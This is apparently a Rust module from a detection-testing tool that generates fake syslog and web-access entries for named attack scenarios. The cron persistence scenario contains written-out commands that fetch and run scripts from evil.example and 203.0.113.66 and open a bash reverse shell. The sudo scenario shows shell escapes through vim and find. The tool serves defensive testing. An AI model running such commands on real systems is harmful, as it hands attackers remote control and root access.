//! Attacks as the books have them: rules name each of these.

use std::net::IpAddr;

use super::{Scene, payloads};
use crate::access::{Access, percent};
use crate::cast;
use crate::stage::{Kind, Stage};

pub(crate) const SCENES: &[Scene] = &[
    scene("ssh_brute_force", 10, ssh_brute_force),
    scene("password_spray", 6, password_spray),
    scene("success_after_failures", 5, success_after_failures),
    scene("sudo_abuse", 10, sudo_abuse),
    scene("new_account", 10, new_account),
    scene("cron_persistence", 6, cron_persistence),
    scene("scanner_agent", 12, scanner_agent),
    scene("sensitive_files", 8, sensitive_files),
    scene("sql_injection", 20, sql_injection),
    scene("cross_site_scripting", 20, cross_site_scripting),
    scene("path_traversal", 20, path_traversal),
    scene("command_injection", 20, command_injection),
    scene("log4shell", 15, log4shell),
];

const fn scene(label: &'static str, weight: u32, play: fn(&mut Stage)) -> Scene {
    Scene { label, kind: Kind::Named, weight, play }
}

fn failed(stage: &mut Stage, host: &str, user: &str, from: IpAddr) {
    stage.connect();
    let port = cast::port(&mut stage.dice);
    let unknown = if user == "root" { "" } else { "invalid user " };
    let text = format!("Failed password for {unknown}{user} from {from} port {port} ssh2");
    stage.log(host, "sshd", &text);
}

fn ssh_brute_force(stage: &mut Stage) {
    let (host, from) = (stage.dice.pick(cast::HOSTS), cast::attacker(&mut stage.dice));
    for _ in 0..stage.dice.between(8, 14) {
        let user = stage.dice.favour(cast::GUESSED_USERS);
        failed(stage, host, user, from);
    }
}

fn password_spray(stage: &mut Stage) {
    let (host, from) = (stage.dice.pick(cast::HOSTS), cast::attacker(&mut stage.dice));
    for user in cast::GUESSED_USERS.iter().take(12) {
        failed(stage, host, user, from);
    }
}

fn success_after_failures(stage: &mut Stage) {
    let (host, from) = (stage.dice.pick(cast::HOSTS), cast::attacker(&mut stage.dice));
    let user = stage.dice.pick(&["root", "deploy", "backup"]);
    for _ in 0..stage.dice.between(6, 10) {
        stage.connect();
        let port = cast::port(&mut stage.dice);
        let text = format!("Failed password for {user} from {from} port {port} ssh2");
        stage.log(host, "sshd", &text);
    }
    let port = cast::port(&mut stage.dice);
    stage.log(host, "sshd", &format!("Accepted password for {user} from {from} port {port} ssh2"));
}

fn sudo_abuse(stage: &mut Stage) {
    let (host, user) = (stage.dice.pick(cast::HOSTS), stage.dice.pick(cast::PEOPLE));
    let text = match stage.dice.below(4) {
        0 => "www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash".to_owned(),
        1 => format!("{user} : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/su -"),
        2 => format!("{user} : TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/vim -c :!/bin/sh"),
        _ => format!("{user} : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ;"),
    };
    stage.log(host, "sudo", &format!("   {text}"));
}

fn new_account(stage: &mut Stage) {
    let host = stage.dice.pick(cast::HOSTS);
    let user = stage.dice.pick(&["support2", "sysupdate", "toor", "backdoor", "svc-print"]);
    let root = stage.dice.chance(30);
    let id = if root { 0 } else { stage.dice.between(1001, 1999) };
    stage.log(host, "useradd", &format!("new group: name={user}, GID={id}"));
    stage.log(
        host,
        "useradd",
        &format!("new user: name={user}, UID={id}, GID={id}, home=/home/{user}, shell=/bin/bash, from=/dev/pts/0"),
    );
    stage.log(host, "usermod", &format!("add '{user}' to group 'sudo'"));
}

fn cron_persistence(stage: &mut Stage) {
    let host = stage.dice.pick(cast::HOSTS);
    let job = stage.dice.pick(&[
        "(root) CMD (curl -fsSL http://evil.example/x.sh | sh)",
        "(www-data) CMD (wget -q -O- http://203.0.113.66/m.sh | bash)",
        "(root) CMD (bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1')",
    ]);
    stage.log(host, "CRON", job);
}

fn scanner_agent(stage: &mut Stage) {
    let from = cast::attacker(&mut stage.dice);
    let agent = stage.dice.pick(cast::SCANNERS);
    for _ in 0..stage.dice.between(1, 4) {
        let mut access = Access::get(from, stage.dice.pick(payloads::SENSITIVE));
        access.status = 404;
        agent.clone_into(&mut access.agent);
        stage.access(&access);
    }
}

fn sensitive_files(stage: &mut Stage) {
    let from = cast::attacker(&mut stage.dice);
    for _ in 0..stage.dice.between(2, 5) {
        let mut access = Access::get(from, stage.dice.pick(payloads::SENSITIVE));
        access.status = 404;
        stage
            .dice
            .pick(&["curl/8.14.1", "python-requests/2.32.4", "Go-http-client/1.1"])
            .clone_into(&mut access.agent);
        stage.access(&access);
    }
}

/// Sends a payload as browsers write it.
fn send(stage: &mut Stage, payload: &str) {
    let from = cast::attacker(&mut stage.dice);
    let place = stage.dice.pick(payloads::PLACES);
    let mut access = Access::get(from, format!("{place}{}", percent(payload)));
    access.status = stage.dice.pick(&[200, 200, 403, 500]);
    stage.dice.pick(cast::BROWSERS).clone_into(&mut access.agent);
    stage.access(&access);
}

fn sql_injection(stage: &mut Stage) {
    let payload = stage.dice.pick(payloads::SQL);
    send(stage, payload);
}

fn cross_site_scripting(stage: &mut Stage) {
    let payload = stage.dice.pick(payloads::SCRIPT);
    send(stage, payload);
}

fn path_traversal(stage: &mut Stage) {
    let payload = stage.dice.pick(payloads::TRAVERSAL);
    send(stage, payload);
}

fn command_injection(stage: &mut Stage) {
    let payload = stage.dice.pick(payloads::COMMAND);
    send(stage, payload);
}

fn log4shell(stage: &mut Stage) {
    let from = cast::attacker(&mut stage.dice);
    let payload = stage.dice.pick(payloads::LOOKUP);
    let mut access = Access::get(from, "/");
    match stage.dice.below(3) {
        0 => payload.clone_into(&mut access.agent),
        1 => payload.clone_into(&mut access.referer),
        _ => access.target = format!("/search?q={}", percent(payload)),
    }
    stage.access(&access);
}
